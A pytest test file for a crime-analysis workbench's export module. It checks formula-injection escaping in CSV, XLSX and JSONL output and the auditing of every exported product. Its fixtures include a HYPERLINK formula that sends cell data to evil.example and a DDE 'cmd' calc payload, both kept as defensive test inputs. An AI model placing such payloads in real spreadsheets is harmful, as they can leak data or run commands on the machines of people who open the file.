"""The shared tabular writer (formula-safe values AND headers, format from the extension, one-line errors) and
the audit of every product export (sha256, bytes, marking, purpose; audited or deleted)."""
from __future__ import annotations

import csv
import hashlib
import json
import subprocess
import sys
import textwrap
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from tests.ingest_helpers import BAD, fresh_copy, template_store
from workbench import config, exports
from workbench.cli import main
from workbench.errors import WorkbenchError

HOSTILE_HEADER = '=HYPERLINK("http://evil.example/?d="&A2,"open me")'
HOSTILE_VALUES = ["=1+1", "+44 20 7946 0000", "-2+3", "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0", "\r=1",
                  "\uff1d1+1", "  =1+1", "\uff20x"]
PLAIN_VALUES = ["Leeds", "-5", "+3.25", "1e5", "", "O'Brien", "a=b"]
BRIGHTMART = Path(__file__).resolve().parent.parent / "workbench" / "sources" / "retailer_brightmart.yaml"


def run_cli(args, capsys):
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


def sha256(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def audit_rows(db: Path, action: str) -> list[tuple[str, dict]]:
    from workbench.store import open_store

    with open_store(db, read_only=True) as store:
        rows = store.con.execute("SELECT object, details FROM audit_log WHERE action = $a ORDER BY audit_id",
                                 {"a": action}).fetchall()
    return [(obj, json.loads(details)) for obj, details in rows]


# -- cells ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_safe_cell_neutralises_what_a_spreadsheet_would_run(value):
    assert exports.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN_VALUES + [5, -5, 2.5, -0.0, True, None])
def test_safe_cell_leaves_numbers_and_plain_text(value):
    assert exports.safe_cell(value) == value and type(exports.safe_cell(value)) is type(value)


# -- the writer -----------------------------------------------------------------------------------
def hostile_frame() -> pd.DataFrame:
    values = HOSTILE_VALUES + PLAIN_VALUES
    return pd.DataFrame({HOSTILE_HEADER: values, "-n": range(len(values)), "@x": [1.5] * len(values)})


def test_csv_is_formula_safe_headers_included(tmp_path):
    out = tmp_path / "t.csv"
    result = exports.write_table(hostile_frame(), out)
    assert result["rows"] == len(HOSTILE_VALUES + PLAIN_VALUES) and result["sha256"] == sha256(out)
    with open(out, newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["'" + HOSTILE_HEADER, "'-n", "'@x"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE_VALUES] + PLAIN_VALUES
    assert [int(r[1]) for r in rows[1:]] == list(range(len(rows) - 1))       # numbers stay numbers


def test_xlsx_has_no_formula_cell_headers_included(tmp_path):
    out = tmp_path / "t.xlsx"
    exports.write_table(hostile_frame(), out, sheet="quarantine")
    ws = openpyxl.load_workbook(out)["quarantine"]
    header = list(ws.iter_rows(min_row=1, max_row=1))[0]
    assert [c.value for c in header] == ["'" + HOSTILE_HEADER, "'-n", "'@x"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    column = [c.value for c in list(ws.iter_cols(min_col=1, max_col=1))[0]][1:]
    assert column[:len(HOSTILE_VALUES)] == ["'" + v for v in HOSTILE_VALUES]
    assert [c.value for c in list(ws.iter_cols(min_col=2, max_col=2))[0]][1:4] == [0, 1, 2]
    # the marking is printed at the top and bottom of every page, and in the document properties
    marking = config.security_marking()
    assert ws.oddHeader.center.text == marking and ws.oddFooter.center.text == marking
    assert openpyxl.load_workbook(out).properties.keywords == marking


def test_xlsx_survives_characters_it_cannot_hold(tmp_path):
    out = tmp_path / "t.xlsx"
    exports.write_table([{"a": "bell\x07 and nul\x00", "b": "=x\x1b[2J"}], out)
    ws = openpyxl.load_workbook(out).active
    assert [c.value for c in list(ws.iter_rows(min_row=2))[0]] == ["bell\ufffd and nul\ufffd", "'=x\ufffd[2J"]


def test_jsonl_keys_and_values_are_formula_safe_structure_kept(tmp_path):
    out = tmp_path / "t.jsonl"
    exports.write_table([{HOSTILE_HEADER: "=1+1", "n": 3, "nested": {"@k": ["-1+1", 2]}}], out)
    (obj,) = [json.loads(line) for line in out.read_text().splitlines()]
    assert obj == {"'" + HOSTILE_HEADER: "'=1+1", "n": 3, "nested": {"'@k": ["'-1+1", 2]}}


@pytest.mark.parametrize("name, fmt, rule", [
    ("report.pdf", None, "output must be a .csv, .tsv, .xlsx, .jsonl or .ndjson file (got .pdf)"),
    ("report", None, "(got no extension)"),
    ("report.csv", "xlsx", "output must be a .xlsx file (got .csv)"),
    ("report.xlsx", "csv", "output must be a .csv or .tsv file (got .xlsx)"),
])
def test_extension_must_match_the_format(tmp_path, name, fmt, rule):
    with pytest.raises(WorkbenchError) as info:
        exports.write_table([{"a": 1}], tmp_path / name, fmt=fmt)
    assert rule in str(info.value) and name in str(info.value)
    assert list(tmp_path.iterdir()) == []


def test_unwritable_path_is_one_line_and_leaves_nothing(tmp_path):
    (tmp_path / "a-file").write_text("x")
    for target in (tmp_path / "a-file" / "t.xlsx", tmp_path / "a-file" / "deeper" / "t.csv"):
        with pytest.raises(WorkbenchError) as info:
            exports.write_table([{"a": 1}], target)
        assert "a-file is a file, not a folder" in str(info.value) and "\n" not in str(info.value)
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(WorkbenchError, match="is a folder"):
        exports.write_table([{"a": 1}], tmp_path / "folder.csv")


def test_a_failed_write_leaves_no_file(tmp_path, monkeypatch):
    out = tmp_path / "t.xlsx"

    def disk_full(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(exports.os, "replace", disk_full)
    with pytest.raises(WorkbenchError, match="t.xlsx: cannot write the XLSX file: No space left on device"):
        exports.write_table([{"a": 1}], out)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("purpose, ok", [
    ("Operation Kestrel tasking", True), ("  spaced  ", True), (None, True),
    ("line one\nline two", False), ("\x1b[2Jclear", False), ("bidi \u202e", False), ("x" * 501, False),
])
def test_purpose_is_one_printable_line(purpose, ok):
    if ok:
        assert exports.check_purpose(purpose) == (purpose.strip() if purpose else None)
    else:
        with pytest.raises(WorkbenchError, match="--purpose"):
            exports.check_purpose(purpose)


# -- quarantine export ------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def template(tmp_path_factory):
    return template_store(tmp_path_factory.mktemp("exports"))


@pytest.fixture
def db(template, tmp_path):
    return fresh_copy(template, tmp_path, "s")


def _rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _write(path: Path, rows: list[dict]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def _quarantine_hostile(db: Path, tmp_path: Path, source: str = "retailer_brightmart") -> None:
    """Brightmart's file with Feb 31st (quarantined) and an extra, hostile column: header and value."""
    from workbench.ingest import ingest_file
    from workbench.store import open_store

    rows = [{**r, HOSTILE_HEADER: "=1+1"} for r in _rows(BAD / "feb_31st.csv")]
    with open_store(db) as store:
        report = ingest_file(store, _write(tmp_path / "hostile.csv", rows), source=source)
    assert report["rows_quarantined"] == 1


def test_quarantine_export_xlsx_hostile_header_is_text(db, tmp_path, capsys):
    _quarantine_hostile(db, tmp_path)
    out = tmp_path / "fix.xlsx"
    code, _, err = run_cli(["quarantine", "export", "--out", out, "--db", db, "--purpose", "return to Brightmart"],
                           capsys)
    assert code == 0, err
    ws = openpyxl.load_workbook(out)["quarantine"]
    header = [c.value for c in next(ws.iter_rows(min_row=1, max_row=1))]
    assert "'" + HOSTILE_HEADER in header and HOSTILE_HEADER not in header
    assert header[-2:] == ["_reasons", "_quarantine_id"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    value = next(ws.iter_rows(min_row=2, max_row=2))[header.index("'" + HOSTILE_HEADER)]
    assert value.value == "'=1+1" and value.data_type == "s"
    ((obj, details),) = audit_rows(db, "quarantine-export")
    assert obj == str(out) and details["sha256"] == sha256(out) and details["bytes"] == out.stat().st_size
    assert details["purpose"] == "return to Brightmart" and details["marking"] == config.security_marking()


def test_quarantine_export_csv_hostile_header_is_text(db, tmp_path, capsys):
    _quarantine_hostile(db, tmp_path)
    out = tmp_path / "fix.csv"
    assert run_cli(["quarantine", "export", "--out", out, "--db", db], capsys)[0] == 0
    with open(out, newline="", encoding="utf-8-sig") as fh:
        header, row = list(csv.reader(fh))
    assert "'" + HOSTILE_HEADER in header and HOSTILE_HEADER not in header
    assert row[header.index("'" + HOSTILE_HEADER)] == "'=1+1"


@pytest.mark.parametrize("name, message", [
    ("fix.pdf", "fix.pdf: output must be a .csv, .tsv, .xlsx, .jsonl or .ndjson file (got .pdf)"),
    ("a-file/fix.xlsx", "a-file is a file, not a folder"),
])
def test_quarantine_export_refuses_bad_output_in_one_line(db, tmp_path, capsys, name, message):
    _quarantine_hostile(db, tmp_path)
    (tmp_path / "a-file").write_text("x")
    code, out, err = run_cli(["quarantine", "export", "--out", tmp_path / name, "--db", db], capsys)
    assert code == 2 and message in err and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert not (tmp_path / name).exists()
    assert audit_rows(db, "quarantine-export") == []


def _mapping_by_path(tmp_path: Path) -> Path:
    data = yaml.safe_load(BRIGHTMART.read_text(encoding="utf-8"))
    data.update(name="retailer_pathmart", retailer="PTH", file_patterns=[])
    path = tmp_path / "mappings" / "retailer_pathmart.yaml"
    path.parent.mkdir()
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    return path


def test_quarantine_export_under_a_mapping_given_by_path(db, tmp_path, capsys):
    from workbench.ingest.mapping import load_mapping

    mapping = _mapping_by_path(tmp_path)
    columns = list(load_mapping(str(mapping)).columns)
    _quarantine_hostile(db, tmp_path, source=str(mapping))
    mapping.unlink()                                   # the file has gone since: the batch kept its mapping
    out = tmp_path / "fix.csv"
    code, stdout, err = run_cli(["quarantine", "export", "--out", out, "--db", db, "--source", "retailer_pathmart",
                                 "--json"], capsys)
    assert code == 0, err
    assert json.loads(stdout)["headers_from"] == "mapping"
    with open(out, newline="", encoding="utf-8-sig") as fh:
        header, row = list(csv.reader(fh))
    assert set(columns) == set(load_mapping("retailer_brightmart").columns)
    assert header == columns + ["'" + HOSTILE_HEADER, "_reasons", "_quarantine_id"]
    assert row[header.index("occurred")] == "2025-02-31 10:00" and "DATE_UNPARSEABLE" in row[-2]


def test_quarantine_export_falls_back_to_the_rows_own_columns(db, tmp_path, capsys):
    from workbench.store import open_store

    mapping = _mapping_by_path(tmp_path)
    _quarantine_hostile(db, tmp_path, source=str(mapping))
    mapping.unlink()
    with open_store(db) as store:   # a batch from before batches kept their mapping
        store.con.execute("UPDATE ingest_batches SET mapping_yaml = NULL WHERE source_name = 'retailer_pathmart'")
    out = tmp_path / "fix.csv"
    code, stdout, err = run_cli(["quarantine", "export", "--out", out, "--db", db, "--json"], capsys)
    assert code == 0, err
    assert json.loads(stdout)["headers_from"] == "rows"
    with open(out, newline="", encoding="utf-8-sig") as fh:
        header, row = list(csv.reader(fh))
    file_header = list(_rows(BAD / "feb_31st.csv")[0]) + [HOSTILE_HEADER]
    assert header == [exports.safe_cell(h) for h in file_header] + ["_reasons", "_quarantine_id"]
    assert row[header.index("occurred")] == "2025-02-31 10:00"


# -- every product export audited -----------------------------------------------------------------
@pytest.fixture(scope="module")
def init_db(tmp_path_factory):
    from workbench.store import open_store

    path = tmp_path_factory.mktemp("audit") / "empty.duckdb"
    open_store(path).close()
    return path


def test_map_forces_is_audited_with_its_sha256_and_purpose(init_db, tmp_path, capsys):
    db = fresh_copy(init_db, tmp_path, "m")
    out = tmp_path / "maps" / "forces.html"
    code, stdout, err = run_cli(["map", "forces", "--out", out, "--db", db, "--no-png", "--purpose",
                                 "Tasking <meeting> =1+1", "--json"], capsys)
    assert code == 0, err
    assert json.loads(stdout)["purpose"] == "Tasking <meeting> =1+1"
    ((obj, details),) = audit_rows(db, "map-forces")
    assert obj == str(out) and details["sha256"] == sha256(out) and details["bytes"] == out.stat().st_size
    assert details["purpose"] == "Tasking <meeting> =1+1" and details["marking"] == config.security_marking()


def test_hotspots_map_is_audited(init_db, tmp_path, capsys):
    db = fresh_copy(init_db, tmp_path, "h")
    out = tmp_path / "hot.html"
    code, _, err = run_cli(["hotspots", "map", "--source", "police-uk", "--unit", "h3:8", "--permutations", "19",
                            "--out", out, "--no-png", "--db", db], capsys)
    assert code == 0, err
    ((obj, details),) = audit_rows(db, "hotspots-map")
    assert obj == str(out) and details["sha256"] == sha256(out) and details["purpose"] is None


def test_hotspots_plan_is_audited_file_by_file(init_db, tmp_path, capsys):
    db = fresh_copy(init_db, tmp_path, "p")
    out = tmp_path / "plan"
    code, stdout, err = run_cli(["hotspots", "plan", "--source", "police-uk", "--force", "13", "--period",
                                 "next-month", "--top", "3", "--out", out, "--no-png", "--db", db, "--purpose",
                                 "weekly tasking", "--json"], capsys)
    assert code == 0, err
    ((obj, details),) = audit_rows(db, "hotspots-plan")
    assert obj == str(out) and details["purpose"] == "weekly tasking"
    files = {Path(f["file"]).name: f for f in details["files"]}
    assert set(files) == {"plan.csv", "stores.csv", "profile.csv", "accuracy.csv", "map.html", "briefing.html",
                          "briefing.pdf"}
    for name, f in files.items():
        assert f["sha256"] == sha256(out / name) and f["bytes"] == (out / name).stat().st_size, name
    assert details["bytes"] == sum(f["bytes"] for f in files.values())


def test_export_from_a_read_only_store_is_audited_through_a_brief_write(init_db, tmp_path):
    from workbench.store import open_store

    db = fresh_copy(init_db, tmp_path, "ro")
    product = tmp_path / "p.csv"
    exports.write_table([{"a": 1}], product)
    with open_store(db, read_only=True) as store:       # as a notebook holds it
        exports.audit_export(store, "export", product, purpose="check")
        assert store.read_only
    ((obj, details),) = audit_rows(db, "export")
    assert obj == str(product) and details["sha256"] == sha256(product) and details["purpose"] == "check"


HOLDER = textwrap.dedent("""
    import sys, time, duckdb
    con = duckdb.connect(sys.argv[1])           # a write connection: other processes cannot open the file
    print("holding", flush=True)
    sys.stdin.readline()
""")


@pytest.fixture
def locked_db(init_db, tmp_path, monkeypatch):
    monkeypatch.setenv("WORKBENCH_LOCK_WAIT", "1")   # a writer waits (bounded) for the lock: keep the test short
    db = fresh_copy(init_db, tmp_path, "locked")
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(db)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "holding"
        yield db
    finally:
        holder.stdin.close()
        holder.wait(timeout=60)


def test_plan_with_the_store_held_by_another_process_fails_and_leaves_no_product(locked_db, tmp_path, capsys):
    out = tmp_path / "plan"
    # police.uk files need no store to read: the plan is written, its audit cannot be, so it is deleted
    code, stdout, err = run_cli(["hotspots", "plan", "--source", "police-uk", "--force", "13", "--period",
                                 "next-month", "--top", "3", "--out", out, "--no-png", "--db", locked_db], capsys)
    last = err.strip().splitlines()[-1]       # (a line before it may say the verb waited for the lock)
    assert code == 2 and last.startswith("error: ") and "must either be audited or not exist" in last
    assert "Traceback" not in err and not out.exists()
    # from the store's own incidents: it cannot be read either, so nothing is written
    code, _, err = run_cli(["hotspots", "plan", "--force", "13", "--out", out, "--no-png", "--db", locked_db], capsys)
    assert code == 2 and not out.exists()


def test_plan_into_an_existing_folder_keeps_the_folder_but_no_unaudited_file(locked_db, tmp_path, capsys):
    out = tmp_path / "plans"
    out.mkdir()
    (out / "notes.txt").write_text("kept")
    code, _, err = run_cli(["hotspots", "plan", "--source", "police-uk", "--force", "13", "--period",
                            "next-month", "--top", "3", "--out", out, "--no-png", "--db", locked_db], capsys)
    assert code == 2
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"]


def test_audit_of_a_read_only_store_held_by_another_writer_deletes_the_product(locked_db, tmp_path):
    product = tmp_path / "p.csv"
    exports.write_table([{"a": 1}], product)
    with pytest.raises(WorkbenchError, match="must either be audited or not exist"):
        exports.audit_export(locked_db, "export", product)
    assert not product.exists()


def test_map_with_the_store_held_by_another_process_leaves_no_product(locked_db, tmp_path, capsys):
    out = tmp_path / "hot.html"
    code, _, err = run_cli(["hotspots", "map", "--source", "police-uk", "--unit", "h3:8", "--permutations", "19",
                            "--out", out, "--no-png", "--db", locked_db], capsys)
    assert code == 2 and "must either be audited or not exist" in err
    assert list(tmp_path.glob("hot*")) == []


@pytest.mark.parametrize("args", [
    ["map", "forces", "--out", "OUT/m.html"],
    ["hotspots", "map", "--source", "police-uk", "--out", "OUT/m.html"],
    ["hotspots", "plan", "--source", "police-uk", "--force", "13", "--out", "OUT/plan"],
    ["quarantine", "export", "--out", "OUT/q.csv"],
])
def test_purpose_with_control_characters_is_refused_before_anything_is_written(init_db, tmp_path, capsys, args):
    args = [a.replace("OUT", str(tmp_path / "o")) for a in args]
    code, _, err = run_cli(args + ["--db", init_db, "--no-png" if args[0] != "quarantine" else "--json",
                                   "--purpose", "ok\x1b[2J"], capsys)
    assert code == 2 and "--purpose must be one line" in err
    assert not (tmp_path / "o").exists()
